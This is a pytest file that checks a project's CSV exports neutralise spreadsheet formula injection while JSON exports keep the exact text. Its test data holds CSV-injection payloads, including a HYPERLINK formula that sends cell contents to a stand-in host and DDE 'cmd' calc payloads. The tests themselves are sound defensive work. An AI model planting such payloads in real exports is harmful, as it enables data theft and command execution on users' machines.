"""Every export is safe to open (issue 26, point 2): no CSV cell a spreadsheet would evaluate; the JSON stays exact."""

from __future__ import annotations

import csv
import io
import json

import pytest
from helpers import run_cli

from dossier.render.exports import FORMULA_STARTS, cell, to_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for the source")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\u22121",
]


def formula(value: str) -> bool:
    """Whether a spreadsheet would evaluate a cell: the OWASP rule set (leading spaces trimmed, as some do)."""
    return value.lstrip(" \u00a0\n\u3000").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_shown_as_text(text):
    assert formula(text) and cell(text) == "'" + text.replace("\r", "\n") and not formula(cell(text))


@pytest.mark.parametrize("text", ["Moscow said", "", "2025-02", "a=b", "x-1", "'quoted", "1", "e-mail"])
def test_neighbours_are_left_as_they_are(text):
    assert cell(text) == text


def test_to_csv_neutralises_every_column_lists_included():
    rows = [{"a": h, "b": [h, "x"], "c": 3, "d": None, "e": True} for h in HOSTILE]
    data = list(csv.reader(io.StringIO(to_csv(["a", "b", "c", "d", "e"], rows).decode("utf-8"), newline="")))
    assert all(not formula(value) for row in data for value in row)
    assert data[1][2:] == ["3", "", "true"]


def _hostile_project(project):
    seed = project / "seeds" / "alpha.txt"
    lines = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click for the source") is what it said.',
        "+Portus grows, the paper said.",
        "@Berg answered at once.",
    ]
    seed.write_text(seed.read_text(encoding="utf-8") + "\n" + "\n\n".join(lines) + "\n", encoding="utf-8")
    record = project / "content" / "sources" / "alpha.yaml"
    claims = "".join(
        f"  - text: {json.dumps(text)}\n    quote: {json.dumps(quote)}\n    actors: [russia]\n    themes: [bases]\n    kind: fact\n"
        for text, quote in [
            ("-1+1 is what a reader sees first.", lines[0]),
            ("\t=cmd|' /C calc'!A0", lines[1]),
            ("=1+1", lines[2]),
        ]
    )
    text = record.read_text(encoding="utf-8").replace("written:\n", claims + "written:\n")
    record.write_text(text, encoding="utf-8")
    return lines


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula():
    data = to_csv(["a", "b"], [{"a": "fine\r=1+1", "b": "x"}]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["a", "b"], ["fine\n=1+1", "x"]]


def test_a_built_claims_csv_holds_no_formula_and_the_json_keeps_the_text(project, tmp_path):
    lines = _hostile_project(project)
    out = tmp_path / "out"
    done = run_cli("--project", str(project), "--out", str(out))
    assert done.returncode == 0, done.stderr
    for name in ("claims", "stances", "disputes"):
        rows = list(csv.reader(io.StringIO((out / "exports" / f"{name}.csv").read_text(encoding="utf-8"), newline="")))
        assert rows and all(not formula(value) for row in rows for value in row), name
    claims = {c["quote"] for c in json.loads((out / "exports" / "claims.json").read_text(encoding="utf-8"))}
    assert set(lines) <= claims  # JSON exact: no apostrophe added
    quoted = {r["quote"] for r in csv.DictReader(io.StringIO((out / "exports" / "claims.csv").read_text(encoding="utf-8"), newline=""))}
    assert {"'" + line for line in lines} <= quoted
